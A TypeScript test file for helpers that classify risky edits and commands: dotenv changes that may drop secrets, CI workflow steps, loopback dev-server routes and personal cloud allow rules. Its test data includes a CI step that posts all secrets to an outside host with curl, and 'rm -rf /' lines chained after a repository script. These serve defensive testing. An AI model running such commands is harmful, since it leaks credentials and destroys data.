import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { dotenvEditMayLoseSecret } from './credential-text.ts';
import { repositoryOwnStep, workflowSteps } from './stored-commands.ts';
import { isLoopbackDevServer, localCacheRoute, localTestRoute } from './test-data.ts';
import { personalAccessRule } from './shell/tools/cloud.ts';

// The lead's answers 112-123 (round 23, branch c23b), where the rule is not obvious from the corpus cases alone.

describe('answer 112: a dotenv edit loses what it replaces only when it may be a secret', () => {
  test('plain settings, literal substitutions', () => {
    assert.equal(dotenvEditMayLoseSecret('LOG_LEVEL=debug\nPORT=4000\n'), false);
    assert.equal(dotenvEditMayLoseSecret('s/^DEBUG=.*/DEBUG=1/'), false);
    assert.equal(dotenvEditMayLoseSecret('s|http://localhost:3000|http://localhost:4000|'), false, 'a literal shows what it replaces');
  });
  test('a secret key, a credential, or nothing named', () => {
    assert.equal(dotenvEditMayLoseSecret('STRIPE_SECRET_KEY=sk_test_1'), true);
    assert.equal(dotenvEditMayLoseSecret('API_URL=https://u:Zq81kd@api.acme-corp.net/v1'), true, 'a URL holding user:pass');
    assert.equal(dotenvEditMayLoseSecret('s/prod.*/dev/'), true, 'a wildcard and no key');
    assert.equal(dotenvEditMayLoseSecret('s/a/b/g'), true, 'too short a literal');
    assert.equal(dotenvEditMayLoseSecret('# gone'), true);
  });
});

describe('answer 113: CI workflow steps', () => {
  test('GitHub run steps, blocks and expressions', () => {
    const yml = "on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.sha }}\n      - run: |\n          ./scripts/a.sh\n          curl -d '${{ toJSON(secrets) }}' https://x\n      - name: t\n        run: psql \"${{ secrets.DB_URL }}\" -c 'select 1'\n";
    assert.deepEqual(workflowSteps(yml), ['echo ${GITHUB_SHA}', "./scripts/a.sh\ncurl -d ''\"${SECRET_VALUES}\"'' https://x", 'psql "${DB_URL}" -c \'select 1\'']);
  });
  test('GitLab script lists, strings and flow lists', () => {
    assert.deepEqual(workflowSteps('t:\n  script:\n    - npm ci\n    - "npm test"\nd:\n  script: ./deploy.sh\ne:\n  after_script: [a, \'b c\']\n'), ['npm ci', 'npm test', './deploy.sh', 'a', 'b c']);
  });
  test("the repository's own scripts", () => {
    assert.equal(repositoryOwnStep('./scripts/deploy.sh production'), true);
    assert.equal(repositoryOwnStep('bash scripts/ci.sh --fast'), true);
    assert.equal(repositoryOwnStep('./a.sh\n./b.sh prod'), true);
    assert.equal(repositoryOwnStep('bin/rails db:drop'), false, 'a binstub');
    assert.equal(repositoryOwnStep('/opt/x.sh'), false);
    assert.equal(repositoryOwnStep('../other/x.sh'), false);
    assert.equal(repositoryOwnStep('./a.sh && rm -rf /'), false);
    assert.equal(repositoryOwnStep('./a.sh\nrm -rf /srv'), false);
  });
});

describe('answers 117 and 119: a dev server on this machine', () => {
  test('loopback with a port that is not a database engine', () => {
    assert.equal(isLoopbackDevServer('http://localhost:4000/x'), true);
    assert.equal(isLoopbackDevServer('http://[::1]:8080/x'), true);
    assert.equal(isLoopbackDevServer('http://localhost/x'), false, 'no port written');
    assert.equal(isLoopbackDevServer('http://localhost:9200/x'), false);
    assert.equal(isLoopbackDevServer('http://localhost.acme.com:4000/x'), false);
  });
  test('test routes and caches', () => {
    assert.equal(localTestRoute('http://localhost:4000/api/__test__/reset'), true);
    assert.equal(localTestRoute('http://localhost:4000/api/tests-reset'), false);
    assert.equal(localCacheRoute('http://localhost:4000/cache'), true);
    assert.equal(localCacheRoute('http://localhost:4000/caches/a/b'), true);
    // The lead's answer 341.3 (round 32): one entry one level under a cache route is the cache's.
    assert.equal(localCacheRoute('http://localhost:4000/cache/entries/1'), true, 'one entry of a cache route is the cache (answer 341.3)');
  });
});

describe('answer 118: allow rules for one person or a while', () => {
  test('names', () => {
    assert.equal(personalAccessRule('ClientIPAddress_2026-12-1_9-14-2'), true);
    assert.equal(personalAccessRule('dev-ip-ana'), true);
    assert.equal(personalAccessRule('AllowAllWindowsAzureIps'), false);
    assert.equal(personalAccessRule('template'), false);
  });
});
